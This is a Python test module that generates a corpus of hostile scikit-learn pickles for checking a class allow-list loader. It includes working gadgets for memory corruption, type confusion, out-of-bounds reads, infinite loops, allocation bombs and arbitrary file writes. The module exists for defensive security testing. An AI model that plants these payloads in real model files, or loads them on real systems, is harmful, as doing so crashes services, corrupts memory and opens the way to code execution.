"""A corpus of hostile pickles, each built only from globals a class allow list would pass.

Each entry is a real scikit-learn model (fitted on the breast-cancer data the committed model
uses, so it takes the same 30 features) with one part replaced the way an attacker would, or
a few hand-assembled opcodes. `corpus(folder)` writes nothing; it returns {name: Crafted}.
`python tests/crafted.py DIR` writes every pickle into DIR (for scripts/scan_compare.py).

Classes: dispatch (a meta-estimator calls a method or function the pickle names), dtype
(NumPy type confusion), buffer (reads past a buffer), tree (a malformed node table walked in
C), bomb (allocation far beyond the pickle's size), import (a module imported before the
check), state (other compiled state: SVM, neighbours index, sparse matrix).
"""
from __future__ import annotations

import pickle
import struct
import sys
import warnings
from dataclasses import dataclass
from functools import lru_cache
from pathlib import Path

import numpy as np

PROBE_MODULE = "trust_probe_import"  # a module whose import writes a marker (see import_probe)


@dataclass
class Crafted:
    kind: str  # dispatch, dtype, buffer, tree, bomb, import, state
    what: str  # one line for people
    data: bytes


# -- a few opcodes by hand, and spliced into a real model's pickle ---------------------------

class Raw:
    """Opcodes that push exactly one object, written as they are into a pickle (no memo)."""

    def __init__(self, code: bytes):
        self.code = code


class _Splicer(pickle._Pickler):
    def save(self, obj, save_persistent_id=True):
        if isinstance(obj, Raw):
            self.write(obj.code)
        else:
            super().save(obj, save_persistent_id)


def dumps(obj) -> bytes:
    """Pickle obj (protocol 2), writing any Raw inside it as its opcodes."""
    import io
    buf = io.BytesIO()
    _Splicer(buf, protocol=2).dump(obj)
    return buf.getvalue()


def g(module: str, name: str) -> bytes:
    return b"c" + f"{module}\n{name}\n".encode()


def text(s: str) -> bytes:
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def blob(b: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(b)) + b  # BINBYTES (protocol 3 opcode; fine under 2)


def num(i: int) -> bytes:
    if 0 <= i < 1 << 31:
        return b"J" + struct.pack("<i", i)
    raw = i.to_bytes((i.bit_length() + 8) // 8, "little", signed=True)
    return b"\x8a" + bytes([len(raw)]) + raw


def tup(*items: bytes) -> bytes:
    return b"(" + b"".join(items) + b"t"


def call(func: bytes, *args: bytes) -> bytes:
    return func + tup(*args) + b"R"


def build(obj: bytes, state: bytes) -> bytes:
    return obj + state + b"b"


def dtype(code: str, state: bytes) -> bytes:
    return build(call(g("numpy", "dtype"), text(code), b"\x89", b"\x88"), state)


def plain_dtype(code: str, endian: str = "<", size: int = -1) -> bytes:
    return dtype(code, tup(num(3), text(endian), b"N", b"N", b"N", num(size) if size >= 0
                           else b"J" + struct.pack("<i", -1), b"J" + struct.pack("<i", -1),
                           num(0)))


def structured(size: int, fields: list[tuple[str, bytes, int]], flags: int = 16) -> bytes:
    names = tup(*(text(n) for n, _, _ in fields))
    table = b"}(" + b"".join(text(n) + tup(d, num(off)) for n, d, off in fields) + b"u"
    return dtype(f"V{size}", tup(num(3), text("|"), b"N", names, table, num(size), num(1),
                                 num(flags)))


def frombuffer(data: bytes, dt: bytes, shape: tuple[int, ...]) -> bytes:
    return call(g("numpy._core.numeric", "_frombuffer"), blob(data), dt,
                tup(*(num(n) for n in shape)), text("C"))


def whole(expr: bytes) -> bytes:
    return b"\x80\x02" + expr + b"."


# -- the models the attacks start from -------------------------------------------------------

@lru_cache(maxsize=1)
def data():
    from sklearn.datasets import load_breast_cancer
    d = load_breast_cancer()
    return d.data, d.target_names[d.target]


def fitted(est):
    X, y = data()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return est.fit(X, y)


def committed_tree():
    return pickle.loads((Path(__file__).resolve().parents[1] / "model" / "dect_model.pkl")
                        .read_bytes())


def _with_nodes(change):
    """The committed tree with its node table changed by change(nodes)."""
    from sklearn.tree._tree import Tree
    clf = committed_tree()
    t = clf.tree_
    state = t.__getstate__()
    nodes = state["nodes"].copy()
    change(nodes)
    new = Tree(t.n_features, np.asarray(t.n_classes), t.n_outputs)
    new.__setstate__({**state, "nodes": nodes})
    clf.tree_ = new
    return pickle.dumps(clf, protocol=5)


def _inner(nodes):
    return np.flatnonzero(nodes["left_child"] != -1)


# -- the corpus ------------------------------------------------------------------------------

def stacking_writes_a_file() -> bytes:
    """A stacking ensemble whose 'estimator' is a byte array and whose method is tofile: the
    pipeline's first step turns X into text, the file name (written in the working directory)."""
    from sklearn.ensemble import StackingClassifier
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import FunctionTransformer
    st = fitted(StackingClassifier([("lr", LogisticRegression(max_iter=50))]))
    st.estimators_ = [np.array(b"written by a pickle", dtype="S40")]
    st.stack_method_ = ["tofile"]
    pipe = make_pipeline(FunctionTransformer(str), st)
    pipe.steps[0][1].fit(data()[0])
    return pickle.dumps(pipe)


def stacking_method_name() -> bytes:
    """Real estimators, but a method name that is none of scikit-learn's (__reduce__)."""
    from sklearn.ensemble import StackingClassifier
    from sklearn.linear_model import LogisticRegression
    st = fitted(StackingClassifier([("lr", LogisticRegression(max_iter=50))]))
    st.stack_method_ = ["__reduce__"]
    return pickle.dumps(st)


def voting_non_estimator() -> bytes:
    """A voting ensemble whose estimator is a byte array."""
    from sklearn.ensemble import VotingClassifier
    from sklearn.linear_model import LogisticRegression
    v = fitted(VotingClassifier([("lr", LogisticRegression(max_iter=50))], voting="soft"))
    v.estimators_ = [np.array(b"not an estimator", dtype="S40")]
    return pickle.dumps(v)


def function_transformer_builtin() -> bytes:
    """A FunctionTransformer whose function is the builtin str (a first step of many gadgets)."""
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import FunctionTransformer
    pipe = fitted(make_pipeline(FunctionTransformer(np.tanh), LogisticRegression(max_iter=50)))
    pipe.steps[0][1].func = str
    pipe.steps[0][1].inverse_func = bytes
    return pickle.dumps(pipe)


def pipeline_non_estimator_step() -> bytes:
    """A pipeline whose step is a NumPy array, which the pipeline asks for transform by name."""
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import StandardScaler
    pipe = fitted(make_pipeline(StandardScaler(), LogisticRegression(max_iter=50)))
    pipe.steps[0] = ("standardscaler", np.zeros(3))
    return pickle.dumps(pipe)


def threshold_response_method() -> bytes:
    """A threshold classifier told to call its estimator's __reduce__ as its response."""
    from sklearn.linear_model import LogisticRegression
    from sklearn.model_selection import FixedThresholdClassifier
    f = fitted(FixedThresholdClassifier(LogisticRegression(max_iter=50)))
    f.response_method = "__reduce__"
    return pickle.dumps(f)


def object_field_without_flags() -> bytes:
    """The committed tree whose classes_ come from raw bytes through a structured dtype with
    an object field and its 'holds objects' flags cleared: the bytes become pointers."""
    dt = structured(8, [("a", plain_dtype("O8", "|", 8), 0)], flags=0)
    clf = committed_tree()
    clf.classes_ = Raw(frombuffer(b"\x41" * 16, dt, (2,)))
    return dumps(clf)


def field_past_item() -> bytes:
    """The committed tree whose classes_ read a field 4096 bytes past each 8-byte item."""
    dt = structured(8, [("a", plain_dtype("i8", "<", 8), 4096)])
    clf = committed_tree()
    clf.classes_ = Raw(frombuffer(b"\x00" * 16, dt, (2,)))
    return dumps(clf)


def buffer_shorter_than_shape() -> bytes:
    """An array whose shape asks for 8 GB from 8 bytes of data."""
    clf = committed_tree()
    clf.classes_ = Raw(frombuffer(b"\x00" * 8, plain_dtype("i8", "<", 8), (1 << 30,)))
    return dumps(clf)


def tree_cycle() -> bytes:
    """The committed tree with a node whose child is the root: the C walk never returns."""
    def change(nodes):
        deepest = _inner(nodes)[-1]
        nodes["left_child"][deepest] = 0
        nodes["right_child"][deepest] = 0
    return _with_nodes(change)


def tree_feature_out_of_range() -> bytes:
    """The committed tree testing feature 10**9 at its root (a read far past X)."""
    return _with_nodes(lambda nodes: nodes["feature"].__setitem__(0, 10 ** 9))


def tree_child_out_of_range() -> bytes:
    """The committed tree whose root's right child is node 10**6 of 27."""
    return _with_nodes(lambda nodes: nodes["right_child"].__setitem__(0, 10 ** 6))


def hist_predictor_cycle() -> bytes:
    """Histogram gradient boosting with a predictor node pointing back to its root."""
    from sklearn.ensemble import HistGradientBoostingClassifier
    h = fitted(HistGradientBoostingClassifier(max_iter=2, max_leaf_nodes=4))
    nodes = h._predictors[0][0].nodes
    inner = np.flatnonzero(nodes["is_leaf"] == 0)
    nodes["left"][inner[-1]] = 0
    return pickle.dumps(h)


def list_of_range() -> bytes:
    """list(range(10**10)): a 50-byte pickle asking for some 400 GB."""
    return whole(call(g("builtins", "list"), call(g("builtins", "range"), num(10 ** 10))))


def bytearray_of_size() -> bytes:
    """bytearray(2**33): 8 GB of zeros from a few bytes."""
    return whole(call(g("builtins", "bytearray"), num(1 << 33)))


def ndarray_called() -> bytes:
    """numpy.ndarray((2**20, 2**20)) called directly: 8 TB of address space."""
    return whole(call(g("numpy", "ndarray"), tup(num(1 << 20), num(1 << 20))))


def array_state_bomb() -> bytes:
    """An array rebuilt with _reconstruct whose state claims 2**40 items and carries none."""
    arr = call(g("numpy._core.multiarray", "_reconstruct"), g("numpy", "ndarray"),
               tup(num(0)), blob(b"b"))
    state = tup(num(1), tup(num(1 << 40)), plain_dtype("u1", "|", 1), b"\x89", blob(b""))
    return whole(build(arr, state))


def shared_nest_as_key() -> bytes:
    """A tuple nested 80 deep whose halves are the same object (a few hundred bytes), used as
    a dict key: hashing it walks 2**80 tuples, and the load never ends."""
    code = b"N" + b"q\x00"
    for _ in range(80):
        code += b"h\x00h\x00\x86q\x00"  # t = (t, t), remembered as memo 0
    return whole(code + b"}h\x00Ns")


def import_before_check() -> bytes:
    """A global from a module whose import alone writes a marker (never on the allow list)."""
    return whole(call(g(PROBE_MODULE, "Anything"), tup()))


def testing_module() -> bytes:
    """A global inside scikit-learn's own test helpers (refused by name, never imported)."""
    return whole(call(g("sklearn.utils._testing", "assert_allclose"), num(1), num(1)))


def svm_sizes() -> bytes:
    """A support vector machine claiming a million support vectors per class (libsvm reads
    past its arrays)."""
    from sklearn.svm import SVC
    s = fitted(SVC())
    s._n_support = np.array([10 ** 6, 10 ** 6], dtype=np.int32)
    return pickle.dumps(s)


def neighbours_index() -> bytes:
    """A k-d tree index whose point indices point far past its data."""
    from sklearn.neighbors import KNeighborsClassifier
    from sklearn.neighbors._kd_tree import KDTree
    knn = fitted(KNeighborsClassifier(algorithm="kd_tree"))
    state = list(knn._tree.__getstate__())
    state[1] = state[1].copy()
    state[1][0] = 10 ** 9
    index = KDTree.__new__(KDTree)
    index.__setstate__(tuple(state))
    knn._tree = index
    return pickle.dumps(knn)


def sparse_indices() -> bytes:
    """A logistic regression with sparse coefficients whose column index is out of range."""
    from sklearn.linear_model import LogisticRegression
    lr = fitted(LogisticRegression(max_iter=50)).sparsify()
    lr.coef_.indices[0] = 10 ** 6
    return pickle.dumps(lr)


def state_sets_class() -> bytes:
    """A link function (no __setstate__ of its own) whose slot state sets its __class__: the
    object becomes another allowed class, built from state that class never checked."""
    obj = g("sklearn._loss.link", "IdentityLink") + b")\x81"
    slots = b"}(" + text("__class__") + g("sklearn._loss.link", "LogitLink") + b"u"
    return whole(build(obj, tup(b"N", slots)))


BUILDERS = {
    "stacking-writes-a-file": ("dispatch", stacking_writes_a_file),
    "stacking-method-name": ("dispatch", stacking_method_name),
    "voting-non-estimator": ("dispatch", voting_non_estimator),
    "function-transformer-builtin": ("dispatch", function_transformer_builtin),
    "pipeline-non-estimator-step": ("dispatch", pipeline_non_estimator_step),
    "threshold-response-method": ("dispatch", threshold_response_method),
    "object-field-without-flags": ("dtype", object_field_without_flags),
    "field-past-item": ("buffer", field_past_item),
    "buffer-shorter-than-shape": ("buffer", buffer_shorter_than_shape),
    "tree-cycle": ("tree", tree_cycle),
    "tree-feature-1e9": ("tree", tree_feature_out_of_range),
    "tree-child-out-of-range": ("tree", tree_child_out_of_range),
    "hist-predictor-cycle": ("tree", hist_predictor_cycle),
    "list-of-range": ("bomb", list_of_range),
    "bytearray-of-size": ("bomb", bytearray_of_size),
    "ndarray-called": ("bomb", ndarray_called),
    "array-state-bomb": ("bomb", array_state_bomb),
    "shared-nest-as-key": ("bomb", shared_nest_as_key),
    "import-before-check": ("import", import_before_check),
    "testing-module": ("import", testing_module),
    "svm-sizes": ("state", svm_sizes),
    "neighbours-index": ("state", neighbours_index),
    "sparse-indices": ("state", sparse_indices),
    "state-sets-class": ("state", state_sets_class),
}


def corpus() -> dict[str, Crafted]:
    """Return every crafted pickle by name."""
    out = {}
    for name, (kind, make) in BUILDERS.items():
        out[name] = Crafted(kind, (make.__doc__ or "").split("\n")[0].strip(), make())
    return out


def import_probe(folder: Path, marker: Path) -> Path:
    """Write the probe module into folder: importing it creates marker. Return folder."""
    (folder / f"{PROBE_MODULE}.py").write_text(
        f"open({str(marker)!r}, 'w').close()\nclass Anything:\n    pass\n")
    return folder


if __name__ == "__main__":
    out = Path(sys.argv[1])
    out.mkdir(parents=True, exist_ok=True)
    for name, c in corpus().items():
        (out / f"{name}.pkl").write_bytes(c.data)
    print(f"wrote {len(BUILDERS)} pickles into {out}")
